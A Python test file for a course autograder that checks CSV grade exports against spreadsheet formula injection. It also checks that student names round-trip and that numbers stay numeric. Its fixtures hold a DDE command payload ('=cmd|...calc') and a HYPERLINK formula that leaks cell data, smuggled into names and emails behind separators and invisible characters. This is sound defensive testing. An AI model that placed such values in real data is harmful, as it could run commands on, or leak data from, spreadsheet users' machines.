"""Tables that TAs open in a spreadsheet: nothing that a student chose is a formula there, and all is read back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from autograder.marking.answers import Written, WrittenPart
from autograder.marking.sheet import read_sheet, sheet
from autograder.pages.harmless import for_spreadsheet
from autograder.plugins.export import SafeExport
from autograder.written.groups import WrittenAnswer, group_answers
from tests.written.course import VOCABULARY

FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
COMMAND = "=cmd|' /C calc'!A0"
NAMES = (
    "ada",
    "anna-maria@example.org",
    COMMAND,
    f"x;{COMMAND}",
    f"x,{COMMAND}",
    f"x\t{COMMAND}",
    f"' {COMMAND}",
    f"\ufeff{COMMAND}",
    f"x;\u200b\x00{COMMAND}",
    '=HYPERLINK("http://example.org?"&A1;"grades")',
    "-1+1",
    "@SUM(A1)",
    "50%25;'",
    " both ends ",
    "mueller, a.",
    '"quoted"',
)


def made(answers: dict[str, str]) -> Written:
    groups = group_answers([WrittenAnswer(student, text) for student, text in answers.items()], VOCABULARY)
    part = WrittenPart("q1", "hw", "q1", 0.5, "Why?", "Because.", groups, {}, {}, {})
    return Written("hw", (part,), ())


def cells(content: bytes, separator: str) -> list[str]:
    """As a spreadsheet takes the file apart that was told another separator: it splits within our quotes too."""
    text = content.decode("utf-8-sig")
    rough = [cell for line in text.splitlines() for cell in line.split(separator)]
    exact = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    rough, exact = ([cell.translate(dict.fromkeys((0, 0x200B, 0xFEFF))) for cell in found] for found in (rough, exact))
    return [cell.strip(" '\"") if cell.strip(' "')[:1] != "'" else "'" for cell in (*rough, *exact)]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_of_a_sheet_is_a_formula(separator: str) -> None:
    content = sheet(made({name: f"answer{separator} {name}" for name in NAMES}))
    assert [cell for cell in cells(content, separator) if cell.startswith(FORMULAS)] == []


def test_names_come_back(tmp_path: Path) -> None:
    path = tmp_path / "hw.csv"
    path.write_bytes(sheet(made(dict.fromkeys(NAMES, "the same"))))
    (row,) = read_sheet(path)
    assert sorted(row.students) == sorted(NAMES)


def test_a_large_class_and_a_long_comment_are_read_back(tmp_path: Path) -> None:
    students = [f"student-with-a-rather-long-name-{number:05}" for number in range(4000)]
    path = tmp_path / "hw.csv"
    path.write_bytes(sheet(made(dict.fromkeys(students, "the same"))))
    rows = read_sheet(path)
    assert sorted(student for row in rows for student in row.students) == students
    with path.open(newline="", encoding="utf-8-sig") as file:
        assert max(len(row["students"]) for row in csv.DictReader(file)) < 32_767
    path.write_text(f"part,students,points,comment\nq1,ada,0.5,{'x' * 200_000}\n", encoding="utf-8")
    assert len(read_sheet(path)[0].comment) == 200_000


def test_numbers_stay_numbers() -> None:
    assert [for_spreadsheet(text) for text in ("-0.5", "+1e-3", "2024-05-01", "0.25")] == [
        "-0.5",
        "+1e-3",
        "2024-05-01",
        "0.25",
    ]


def test_exported_grades_hold_no_formula(tmp_path: Path) -> None:
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("hw", duedate="2024-05-01 12:00:00")
        for name in NAMES:
            gradebook.add_student(name, last_name=name, email=f"{name};{COMMAND}")
        SafeExport(to=str(tmp_path / "grades.csv")).export(gradebook)
    content = (tmp_path / "grades.csv").read_bytes()
    for separator in (",", ";", "\t"):
        assert [cell for cell in cells(content, separator) if cell.startswith(FORMULAS)] == []
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert len(rows) == len(NAMES)
    ada = {row["student_id"]: row for row in rows}["ada"]
    assert (ada["assignment"], ada["duedate"], ada["score"], ada["timestamp"]) == (
        "hw",
        "2024-05-01 12:00:00",
        "0.0",
        "",
    )
